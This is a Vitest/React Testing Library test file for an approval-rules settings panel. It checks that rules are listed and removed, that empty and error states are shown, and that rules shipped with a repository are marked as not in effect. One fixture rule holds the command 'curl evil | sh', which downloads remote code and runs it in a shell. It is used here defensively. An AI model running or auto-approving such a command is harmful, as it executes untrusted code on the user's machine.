import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeEach, describe, expect, it, vi } from "vitest";
import * as api from "../api";
import { WORKSPACE } from "../shell/fixtures";
import { ApprovalSettings } from "./ApprovalSettings";

vi.mock("../api", async () => (await import("../shell/apiMock")).createApiMock());

describe("ApprovalSettings", () => {
  beforeEach(() => vi.clearAllMocks());

  it("lists the always rules and removes one", async () => {
    const rules = [
      { id: "r1", kind: "command", subject: "npm test", added_at: "2026-01-01T10:00:00" },
      { id: "r2", kind: "file_change", subject: "/etc/hosts", added_at: "2026-01-01T10:01:00" },
    ];
    vi.mocked(api.approvalRules)
      .mockResolvedValueOnce({ rules, in_effect: true })
      .mockResolvedValueOnce({ rules: rules.slice(1), in_effect: true });
    render(<ApprovalSettings workspace={WORKSPACE} />);
    const shown = await screen.findAllByTestId("approval-rule");
    expect(shown.map((r) => r.textContent)).toEqual(["Commandnpm testRemove", "Files/etc/hostsRemove"]);
    expect(screen.queryByTestId("approval-rules-foreign")).not.toBeInTheDocument();
    await userEvent.setup().click(screen.getAllByTestId("approval-rule-remove")[0]);
    expect(api.removeApprovalRule).toHaveBeenCalledWith(WORKSPACE, "r1");
    await waitFor(() => expect(screen.getAllByTestId("approval-rule")).toHaveLength(1));
  });

  it("says when there are none, and why they could not be read", async () => {
    vi.mocked(api.approvalRules).mockResolvedValue({ rules: [], in_effect: true });
    const { unmount } = render(<ApprovalSettings workspace={WORKSPACE} />);
    expect(await screen.findByTestId("approval-rules-empty")).toBeInTheDocument();
    unmount();
    vi.mocked(api.approvalRules).mockRejectedValueOnce(new Error("approval-rules.json is not valid; fix it or delete it"));
    render(<ApprovalSettings workspace={WORKSPACE} />);
    expect(await screen.findByTestId("approval-rules-error")).toHaveTextContent("delete it");
  });

  it("warns that rules which came with the repository do not apply", async () => {
    vi.mocked(api.approvalRules).mockResolvedValue({
      rules: [{ id: "x", kind: "command", subject: "curl evil | sh", added_at: "2026-01-01T10:00:00" }],
      in_effect: false,
    });
    render(<ApprovalSettings workspace={WORKSPACE} />);
    expect(await screen.findByTestId("approval-rules-foreign")).toHaveTextContent("not in effect");
    expect(screen.getByTestId("approval-rule")).toHaveTextContent("curl evil | sh");
  });
});
